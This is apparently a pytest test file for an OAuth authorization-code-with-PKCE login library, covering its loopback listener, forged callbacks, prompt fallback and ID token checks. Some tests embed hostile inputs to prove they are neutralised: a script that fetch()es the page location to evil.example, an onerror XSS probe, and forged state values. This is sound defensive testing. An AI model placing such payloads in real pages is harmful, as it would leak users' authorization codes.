"""Authorization code + PKCE logins (`_flows.authcode`, `_flows.loopback`) against the real dev server.

The browser is `tests/browser_driver.py`, set as `BROWSER` so that the library's own `webbrowser.open` call
starts it: it logs in on the dev server's pages and delivers the redirect to the loopback listener, or
misbehaves on purpose (`BROWSER_DRIVER_MODE`). Its report (`BROWSER_DRIVER_REPORT`) shows what the browser
saw: the authorization URL, the redirect and the listener's answer.
"""

from __future__ import annotations

import base64
import hashlib
import json
import shlex
import socket
import stat
import string
import sys
import time
import webbrowser
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import requests

import planet_auth_utils
import planet_profiles
from planet_profiles import AuthContext, AuthError, LoginRequiredError, OAuthError, StorageError
from planet_profiles._flows.authcode import _Attempt, pkce_challenge
from planet_profiles._flows.loopback import (
    DEFAULT_ACKNOWLEDGEMENT,
    CallbackListener,
    acknowledgement_page,
    page,
)
from tests.fixtures_devserver import DevServer, complete_browser_login

DRIVER = Path(__file__).resolve().with_name("browser_driver.py")
SCOPES = ["openid", "offline_access", "api.read"]
CLIENT_TYPES = {
    "native-public": "oidc_auth_code",
    "auth-code-secret": "oidc_auth_code_secret",
    "auth-code-pubkey": "oidc_auth_code_pubkey",
}


def authcode_config(server: DevServer, client_id: str = "native-public", **extra: Any) -> dict[str, Any]:
    key_file = "rsa" if server.clients[client_id].private_key_files else None
    extra = {"local_redirect_uri": "http://127.0.0.1/callback", **extra}
    return server.profile(CLIENT_TYPES[client_id], client_id, key_file=key_file, **extra)


def context(server: DevServer, client_id: str = "native-public", **extra: Any) -> AuthContext:
    return planet_profiles.from_config(
        authcode_config(server, client_id, **extra), profile_name="authcode", save_token_file=False
    )


def hello(server: DevServer, auth: Any) -> dict[str, Any]:
    answer = requests.get(server.hello_url, auth=auth, timeout=10)
    assert answer.status_code == 200, answer.text
    result: dict[str, Any] = answer.json()
    return result


def code_requests(server: DevServer) -> int:
    return int(server.stats()["by_grant"].get("authorization_code", 0))


class Browser:
    """Controls `BROWSER`: the driver (with a mode) or any command line; reads the driver's report."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, report: Path) -> None:
        self._monkeypatch = monkeypatch
        self._report = report
        monkeypatch.setattr(webbrowser, "_tryorder", None)  # webbrowser reads BROWSER once per process
        monkeypatch.setattr(webbrowser, "_browsers", {})
        monkeypatch.setenv("BROWSER_DRIVER_REPORT", str(report))
        self.command(f"{shlex.quote(sys.executable)} {shlex.quote(str(DRIVER))} %s")

    def command(self, command_line: str) -> None:
        self._monkeypatch.setenv("BROWSER", command_line)

    def mode(self, mode: str) -> None:
        self._monkeypatch.setenv("BROWSER_DRIVER_MODE", mode)

    def report(self, timeout: float = 15.0) -> dict[str, Any]:
        """The driver's report; the login may end (a refused callback) before the driver has written it."""
        deadline = time.monotonic() + timeout
        while not self._report.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        result: dict[str, Any] = json.loads(self._report.read_text())
        return result


@pytest.fixture
def browser(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Browser:
    return Browser(monkeypatch, tmp_path / "browser-report.json")


# --- the seed API, the three client types, refresh ----------------------------------------------------------


@pytest.mark.integration
def test_seed_example_logs_in_with_the_browser_from_an_on_disk_profile(
    devserver: DevServer, browser: Browser, hermetic_env: Path
) -> None:
    profile_dir = hermetic_env / ".planet" / "my-custom-profile"
    profile_dir.mkdir(parents=True)
    (profile_dir / "auth_client.json").write_text(json.dumps(authcode_config(devserver)))

    ctx = planet_auth_utils.PlanetAuthFactory.initialize_auth_client_context(
        auth_profile_opt="my-custom-profile"
    )
    print(ctx.auth_client().__class__.__name__)
    credential = ctx.login(allow_open_browser=True)

    token_file = credential.path()
    assert token_file == profile_dir / "token.json"
    assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
    assert ctx.auth_client().__class__.__name__ == "AuthCodeAuthClient"
    assert "api.read" in hello(devserver, ctx.request_authenticator())["scope"].split()
    saved = json.loads(token_file.read_text())
    assert {"access_token", "refresh_token", "id_token", "_iat", "_exp"} <= set(saved)


@pytest.mark.integration
def test_authorization_request_uses_pkce_s256_state_nonce_and_prompt_consent(
    devserver: DevServer, browser: Browser
) -> None:
    ctx = context(devserver)
    token = ctx.auth_client().login(allow_open_browser=True)

    query = {
        key: values[0] for key, values in parse_qs(urlsplit(browser.report()["authorize_url"]).query).items()
    }
    assert query["code_challenge_method"] == "S256"
    assert len(query["code_challenge"]) == 43  # BASE64URL(SHA-256), no padding
    assert len(query["state"]) >= 22 and len(query["nonce"]) >= 22  # >= 128 bits
    assert query["prompt"] == "consent"  # offline_access asked for
    assert query["scope"] == " ".join(SCOPES)
    assert query["redirect_uri"].startswith("http://127.0.0.1:")
    report = browser.report()
    assert report["redirect_url"].startswith(query["redirect_uri"] + "?")
    assert (report["status"], report["body"]) == (200, DEFAULT_ACKNOWLEDGEMENT)
    assert token.refresh_token and token.id_token  # the token request used the same redirect_uri (SEC-05)


@pytest.mark.integration
def test_refresh_after_a_browser_login(devserver: DevServer, browser: Browser) -> None:
    client = context(devserver).auth_client()
    first = client.login(allow_open_browser=True)

    second = client.refresh(first)

    assert second.access_token != first.access_token
    assert second.refresh_token and second.refresh_token != first.refresh_token  # rotated
    assert hello(devserver, requests_bearer(second.access_token))["sub"] == "test-user"


def requests_bearer(access_token: str) -> Callable[[requests.PreparedRequest], requests.PreparedRequest]:
    def add(request: requests.PreparedRequest) -> requests.PreparedRequest:
        request.headers["Authorization"] = f"Bearer {access_token}"
        return request

    return add


@pytest.mark.integration
@pytest.mark.parametrize("client_id", ["auth-code-secret", "auth-code-pubkey"])
def test_confidential_clients(devserver: DevServer, browser: Browser, client_id: str) -> None:
    ctx = context(devserver, client_id)

    ctx.login(allow_open_browser=True)

    assert hello(devserver, ctx.request_authenticator())["client_id"] == client_id


# --- the loopback listener ----------------------------------------------------------------------------------


@pytest.mark.integration
def test_pinned_port_and_localhost_are_used_as_configured(devserver: DevServer, browser: Browser) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    ctx = context(devserver, local_redirect_uri=f"http://localhost:{port}/callback")

    ctx.login(allow_open_browser=True)

    assert browser.report()["redirect_url"].startswith(f"http://localhost:{port}/callback?code=")


@pytest.mark.integration
def test_acknowledgement_page_from_a_file_never_shows_the_code(
    devserver: DevServer, browser: Browser, tmp_path: Path
) -> None:
    text = '<script>fetch("https://evil.example/?" + location)</script> custom acknowledgement'
    ack = tmp_path / "ack.html"
    ack.write_text(text)
    ctx = context(devserver, authorization_callback_acknowledgement_file=str(ack))

    ctx.login(allow_open_browser=True)

    report = browser.report()
    code = parse_qs(urlsplit(report["redirect_url"]).query)["code"][0]
    assert (report["status"], report["body"]) == (200, page("Login complete", text))
    assert "<script>" not in report["body"] and "&lt;script&gt;fetch(" in report["body"]  # inert text
    assert report["headers"]["Cache-Control"] == "no-store"
    assert report["headers"]["Referrer-Policy"] == "no-referrer"
    assert report["headers"]["Content-Security-Policy"].startswith("default-src 'none'")
    assert code not in report["body"]


def test_inline_acknowledgement_is_text_in_the_fixed_page() -> None:
    client = offline_client(authorization_callback_acknowledgement="<img src=x onerror=alert(1)>Thanks & bye")
    shown = acknowledgement_page(client.config, file=client.file)
    assert shown == page("Login complete", "<img src=x onerror=alert(1)>Thanks & bye")
    assert "<img" not in shown and "&lt;img src=x onerror=alert(1)&gt;Thanks &amp; bye" in shown


@pytest.mark.integration
def test_stray_requests_are_refused_and_the_login_still_completes(
    devserver: DevServer, browser: Browser
) -> None:
    browser.mode("stray")

    context(devserver).login(allow_open_browser=True)

    assert browser.report()["stray"] == [404, 400]
    assert browser.report()["status"] == 200


def test_listener_binds_loopback_only_and_keeps_the_configured_host() -> None:
    with CallbackListener("http://127.0.0.1/callback", handle=lambda query: "code") as listener:
        host, port = listener.bound_address
        assert host == "127.0.0.1" and listener.bound_hosts == ("127.0.0.1",)
        assert listener.redirect_uri == f"http://127.0.0.1:{port}/callback"
        with pytest.raises(OSError):  # not bound to 0.0.0.0: another loopback address gets no answer
            socket.create_connection(("127.0.0.2", port), timeout=2).close()
        with socket.create_connection(("127.0.0.1", port), timeout=2):
            pass


def _has_ipv6_loopback() -> bool:
    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as probe:
            probe.bind(("::1", 0))
    except OSError:
        return False
    return True


def test_localhost_listens_on_both_loopback_families() -> None:
    """SEC-10: `localhost` may resolve to `::1`; no other process may take that family's port."""
    with CallbackListener("http://localhost/callback", handle=lambda query: "code") as listener:
        port = listener.bound_address[1]
        assert listener.redirect_uri == f"http://localhost:{port}/callback"  # as registered at the server
        if not _has_ipv6_loopback():
            assert listener.bound_hosts == ("127.0.0.1",)
            return
        assert listener.bound_hosts == ("127.0.0.1", "::1")
        with socket.socket(socket.AF_INET6) as squatter, pytest.raises(OSError):
            squatter.bind(("::1", port))  # taken by the listener
        answer = requests.get(f"http://[::1]:{port}/callback?code=c&state=s", timeout=5)
        assert answer.status_code == 200 and listener.wait(5) and listener.code() == "code"


@pytest.mark.skipif(not _has_ipv6_loopback(), reason="no IPv6 loopback on this machine")
def test_ipv6_loopback_redirect_binds_ipv6_loopback() -> None:
    listener = CallbackListener("http://[::1]/cb", handle=lambda query: "code")
    with listener:
        port = listener.bound_address[1]
        assert listener.bound_address[0] == "::1"
        assert listener.redirect_uri == f"http://[::1]:{port}/cb"


@pytest.mark.integration
# webbrowser's BackgroundBrowser drops its Popen while the command runs: a ResourceWarning in Popen.__del__
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_browser_command_run_in_the_background_works_too(devserver: DevServer, browser: Browser) -> None:
    browser.command(f"{shlex.quote(sys.executable)} {shlex.quote(str(DRIVER))} %s &")  # webbrowser won't wait

    context(devserver).login(allow_open_browser=True)

    assert browser.report()["status"] == 200


def test_an_unreadable_acknowledgement_file_names_the_key(tmp_path: Path) -> None:
    client = offline_client(authorization_callback_acknowledgement_file=str(tmp_path / "missing.html"))

    with pytest.raises(StorageError, match="missing.html") as caught:
        acknowledgement_page(client.config, file=client.file)

    assert caught.value.key == "authorization_callback_acknowledgement_file"


def test_an_idle_connection_does_not_block_the_callback() -> None:
    with CallbackListener("http://127.0.0.1/cb", handle=lambda query: "the-code", page="ok") as listener:
        port = listener.bound_address[1]
        with socket.create_connection(("127.0.0.1", port), timeout=2):  # a browser's idle pre-connect
            answer = requests.get(f"http://127.0.0.1:{port}/cb?code=x&state=y", timeout=5)
            assert listener.wait(5)
        again = requests.get(f"http://127.0.0.1:{port}/cb?code=x&state=y", timeout=5)
    assert (answer.status_code, answer.text) == (200, "ok")
    assert again.status_code == 409  # one callback only
    assert listener.code() == "the-code"


@pytest.mark.parametrize(
    ("family", "address", "redirect"),
    [
        (socket.AF_INET, "127.0.0.1", "http://127.0.0.1:{port}/"),
        (socket.AF_INET6, "::1", "http://localhost:{port}/"),  # SEC-10: localhost needs ::1 too
    ],
    ids=["ipv4", "localhost-ipv6"],
)
def test_a_busy_pinned_port_is_a_typed_error(
    family: socket.AddressFamily, address: str, redirect: str
) -> None:
    if family == socket.AF_INET6 and not _has_ipv6_loopback():
        pytest.skip("no IPv6 loopback here")
    with socket.socket(family) as busy:
        busy.bind((address, 0))
        busy.listen()
        port = busy.getsockname()[1]
        with pytest.raises(AuthError, match=f"{address} port {port}") as caught:
            CallbackListener(redirect.format(port=port), handle=lambda query: "")
        assert caught.value.key == "local_redirect_uri"
        if family == socket.AF_INET6:
            with CallbackListener(f"http://127.0.0.1:{port}/", handle=lambda query: ""):
                pass  # the IPv4 port was released again (and a literal address needs no ::1)


# --- refused callbacks: no token request --------------------------------------------------------------------


@pytest.mark.integration
@pytest.mark.parametrize(
    ("mode", "error", "match", "page"),
    [
        # the right state without its RFC 9207 `iss`: this login's response, refused; the login ends
        ("drop-iss", AuthError, "RFC 9207", "Login failed"),
        # SEC-09: the only response carries another `state`: refused, and the login waits on until its timeout
        ("tamper-state", LoginRequiredError, "within 8 s", "Not this login"),
    ],
    ids=["drop-iss", "tamper-state"],
)
def test_a_refused_callback_leads_to_no_token_request(
    devserver: DevServer, browser: Browser, mode: str, error: type[Exception], match: str, page: str
) -> None:
    browser.mode(mode)
    before = code_requests(devserver)

    with pytest.raises(error, match=match):
        context(devserver).login(allow_open_browser=True, timeout=8)

    assert code_requests(devserver) == before
    report = browser.report()
    code = parse_qs(urlsplit(report["redirect_url"]).query)["code"][0]
    assert report["status"] == 400 and page in report["body"] and code not in report["body"]


@pytest.mark.integration
def test_forged_callbacks_do_not_end_the_login_and_the_real_one_completes_it(
    devserver: DevServer, browser: Browser
) -> None:
    """SEC-09: a wrong state, no state, and `error=` with a wrong state (what any local process can send)
    are each answered 400; the real redirect that follows completes the login."""
    browser.mode("forge")
    before = code_requests(devserver)

    token = context(devserver).auth_client().login(allow_open_browser=True)

    report = browser.report()
    assert report["stray"] == [400, 400, 400]
    assert (report["status"], report["body"]) == (200, DEFAULT_ACKNOWLEDGEMENT)
    assert code_requests(devserver) == before + 1 and token.access_token


def test_forged_requests_to_the_listener_are_refused_until_the_real_one() -> None:
    belongs = lambda query: "state=right" in query.split("&")  # noqa: E731
    with CallbackListener(
        "http://127.0.0.1/cb", handle=lambda query: "the-code", belongs=belongs
    ) as listener:
        url = f"http://127.0.0.1:{listener.bound_address[1]}/cb"
        for forged in ("?code=c&state=wrong", "?code=c", "?error=access_denied&state=wrong", "?state="):
            answer = requests.get(url + forged, timeout=5)
            assert answer.status_code == 400 and "Not this login" in answer.text
            assert not listener.answered() and not listener.wait(0.05)
        assert requests.get(url + "?code=c&state=right", timeout=5).status_code == 200
        assert listener.wait(5) and listener.code() == "the-code"


@pytest.mark.integration
def test_consent_denied_is_an_oauth_error(devserver: DevServer, browser: Browser) -> None:
    browser.mode("deny")
    before = code_requests(devserver)

    with pytest.raises(OAuthError) as caught:
        context(devserver).login(allow_open_browser=True)

    assert caught.value.error == "access_denied"
    assert code_requests(devserver) == before


@pytest.mark.integration
def test_timeout_when_no_redirect_arrives(devserver: DevServer, browser: Browser) -> None:
    browser.command("true %s")  # a browser that opens and never comes back
    started = time.monotonic()

    with pytest.raises(LoginRequiredError, match="within 0.3 s"):
        context(devserver).login(allow_open_browser=True, timeout=0.3)

    assert time.monotonic() - started < 2.0


@pytest.mark.integration
def test_no_browser_without_prompt_is_a_typed_error(devserver: DevServer, browser: Browser) -> None:
    browser.command("false %s")

    with pytest.raises(LoginRequiredError, match="no browser could be started"):
        context(devserver).login(allow_open_browser=True, timeout=5)


def offline_client(**extra: Any) -> Any:
    """A client of a server that is not running (port 9): for checks made before any request."""
    config = {
        "client_type": "oidc_auth_code",
        "auth_server": "http://127.0.0.1:9/",
        "client_id": "native-public",
        "local_redirect_uri": "http://127.0.0.1/callback",
        **extra,
    }
    return planet_profiles.from_config(config, profile_name="offline", save_token_file=False).auth_client()


def test_neither_browser_nor_prompt_is_a_login_required_error() -> None:
    with pytest.raises(LoginRequiredError, match="oidc_device_code"):
        offline_client().login()


def test_extra_cannot_replace_the_security_parameters() -> None:
    with pytest.raises(AuthError, match="`state`"):
        offline_client().login(allow_tty_prompt=True, extra={"state": "fixed", "ui_locales": "en"})


# --- terminal prompt ----------------------------------------------------------------------------------------


def pastes(capsys: pytest.CaptureFixture[str], transform: Callable[[str], str]) -> Callable[..., str]:
    """An `input()` that plays the user: opens the printed URL, pastes `transform(redirected URL)`."""

    def fake_input(*args: Any) -> str:
        printed = capsys.readouterr().err
        url = next(line.strip() for line in printed.splitlines() if "/auth?" in line)
        return transform(complete_browser_login(url))

    return fake_input


@pytest.mark.integration
@pytest.mark.parametrize(
    "transform",
    [lambda url: url, lambda url: f"  {parse_qs(urlsplit(url).query)['code'][0]}\n"],
    ids=["redirected-url", "bare-code"],
)
def test_tty_prompt_login(
    devserver: DevServer,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    transform: Callable[[str], str],
) -> None:
    monkeypatch.setattr("builtins.input", pastes(capsys, transform))
    ctx = context(devserver, redirect_uri="http://localhost/callback")

    ctx.login(allow_tty_prompt=True)

    assert hello(devserver, ctx.request_authenticator())["sub"] == "test-user"


@pytest.mark.integration
def test_tty_prompt_checks_the_state_of_a_pasted_url(
    devserver: DevServer, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("builtins.input", pastes(capsys, lambda url: url.replace("state=", "state=x")))
    before = code_requests(devserver)

    with pytest.raises(AuthError, match="`state` does not match"):
        context(devserver).login(allow_tty_prompt=True)

    assert code_requests(devserver) == before


@pytest.mark.integration
def test_browser_failure_falls_back_to_the_prompt(
    devserver: DevServer,
    browser: Browser,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    browser.command("false %s")
    monkeypatch.setattr("builtins.input", pastes(capsys, lambda url: url))
    ctx = context(devserver)

    ctx.login(allow_open_browser=True, allow_tty_prompt=True)

    assert hello(devserver, ctx.request_authenticator())["sub"] == "test-user"


@pytest.mark.integration
def test_a_non_loopback_redirect_uri_goes_to_the_prompt(
    devserver: DevServer, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("builtins.input", lambda *args: "")
    web = {"redirect_uri": "https://app.example.com/callback", "local_redirect_uri": None}
    config = {key: value for key, value in {**authcode_config(devserver), **web}.items() if value}
    client = planet_profiles.from_config(config, profile_name="web", save_token_file=False).auth_client()

    with pytest.raises(LoginRequiredError, match="no code or URL"):
        client.login(allow_open_browser=True, allow_tty_prompt=True)
    assert "redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback" in capsys.readouterr().err

    with pytest.raises(AuthError, match="not a loopback") as caught:
        client.login(allow_open_browser=True)
    assert caught.value.key == "redirect_uri"


@pytest.mark.integration
def test_empty_answer_at_the_prompt(devserver: DevServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("builtins.input", lambda *args: "")

    with pytest.raises(LoginRequiredError, match="no code or URL"):
        context(devserver).login(allow_tty_prompt=True)


# --- PKCE, state and the ID token checks --------------------------------------------------------------------


def test_pkce_s256_matches_rfc7636_appendix_b() -> None:
    assert (
        pkce_challenge("dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk")
        == "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
    )


def test_every_attempt_has_fresh_secrets() -> None:
    first, second = _Attempt(), _Attempt()
    assert 43 <= len(first.verifier) <= 128
    assert set(first.verifier) <= set(string.ascii_letters + string.digits + "-._~")  # RFC 7636 §4.1
    assert {first.verifier, first.state, first.nonce}.isdisjoint(
        {second.verifier, second.state, second.nonce}
    )
    assert first.verifier not in repr(first) and first.state not in repr(first)


def _id_token(claims: dict[str, Any]) -> str:
    encode = lambda data: base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()  # noqa: E731
    return f"{encode({'alg': 'RS256'})}.{encode(claims)}.signature"


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ({}, None),
        ({"aud": ["native-public", "other"], "azp": "native-public"}, None),
        ({"nonce": "replayed"}, "`nonce`"),
        ({"nonce": None}, "`nonce`"),
        ({"iss": "https://evil.example"}, "`iss`"),
        ({"aud": "other-client"}, "`aud`"),
        ({"aud": ["native-public", "other"], "azp": "other"}, "`azp`"),
    ],
)
def test_id_token_claims_are_checked(change: dict[str, Any], problem: str | None) -> None:
    client = offline_client()
    attempt = _Attempt()
    claims = {"iss": "http://127.0.0.1:9", "aud": "native-public", "nonce": attempt.nonce, **change}

    if problem is None:
        client._check_id_token(_id_token(claims), attempt)
    else:
        with pytest.raises(AuthError, match=problem) as caught:
            client._check_id_token(_id_token(claims), attempt)
        assert attempt.nonce not in str(caught.value)
    with pytest.raises(AuthError, match="malformed"):
        client._check_id_token("not-a-jwt", attempt)


def test_challenge_is_sha256_of_the_verifier() -> None:
    verifier = _Attempt().verifier
    digest = hashlib.sha256(verifier.encode()).digest()
    assert pkce_challenge(verifier) == base64.urlsafe_b64encode(digest).rstrip(b"=").decode()
